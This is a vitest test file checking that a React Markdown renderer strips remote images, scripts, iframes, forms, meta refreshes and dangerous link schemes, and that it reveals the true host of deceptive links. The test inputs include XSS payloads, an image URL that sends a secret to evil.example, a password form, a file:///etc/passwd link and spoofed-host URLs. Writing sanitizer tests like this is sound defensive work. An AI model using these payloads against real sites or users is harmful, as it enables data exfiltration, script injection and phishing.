import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import Markdown from './Markdown.tsx';
import { isLink, trueHost } from './true-host.ts';

const origin = 'https://parley.example';
const markup = (text: string) => renderToStaticMarkup(createElement(Markdown, { text }));

beforeAll(() => void vi.stubGlobal('window', { location: { origin } }));
afterAll(() => void vi.unstubAllGlobals());

test('no picture of another site is ever fetched: it is a link that names its site', () => {
  for (const text of [
    '![chart](https://evil.example/p.png?d=secret)',
    '![](https://evil.example/p.png)',
    '![chart][1]\n\n[1]: https://evil.example/p.png',
    '[![x](https://evil.example/a.png)](https://evil.example/b)',
    '<img src="https://evil.example/p.png">',
    '<picture><source srcset="https://evil.example/p.png"></picture>',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  ]) {
    expect(markup(text), text).not.toMatch(/<(?:img|picture|source|video|audio|svg|link|style)\b/);
  }
  expect(markup('![chart](https://evil.example/p.png?d=secret)')).toContain('chart (evil.example)');
});

test('nothing that runs, embeds or asks is made of a text', () => {
  for (const text of [
    '<iframe src="https://evil.example"></iframe>',
    '<form action="https://evil.example"><input name="password"></form>',
    '<script>alert(1)</script>',
    '<a href="https://evil.example" onclick="x()">x</a>',
    '<style>@import "https://evil.example/x.css"</style>',
    '<object data="https://evil.example"></object>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
  ]) {
    expect(markup(text), text).not.toMatch(
      /<(?:iframe|form|script|object|embed|meta|base|style|input|a)\b/,
    );
  }
});

test('a link leads somewhere or is none', () => {
  for (const text of [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,<script>1</script>)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://parley.example/1)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
  ]) {
    expect(markup(text), text).not.toMatch(/<a\b|href=/);
  }
  expect(markup('[the quote](https://supplier.example/q)')).toContain(
    'href="https://supplier.example/q"',
  );
  expect(isLink('mailto:mira@harbour.example', origin)).toBe(true);
  expect(isLink('javascript:alert(1)', origin)).toBe(false);
});

test('words that name another site are followed by the true one', () => {
  expect(markup('[https://bank.example/login](https://evil.example/x)')).toContain(
    'https://bank.example/login (evil.example)',
  );
  expect(markup('[bank.example](https://evil.example/x)')).toContain('bank.example (evil.example)');
  expect(markup('[bank.example](https://www.bank.example/x)')).not.toContain('(www.bank.example)');
  expect(trueHost('https://xn--bnk-8la.example', 'bänk.example')).toBe('xn--bnk-8la.example');
  expect(trueHost('https://evil.example/bank.example', 'bank.example')).toBe('evil.example');
  expect(trueHost('https://bank.example@evil.example/', 'https://bank.example')).toBe(
    'evil.example',
  );
  expect(trueHost('https://supplier.example/q', 'the quote')).toBeNull();
  expect(trueHost('https://bank.example/a', 'https://bank.example/a.')).toBeNull();
});
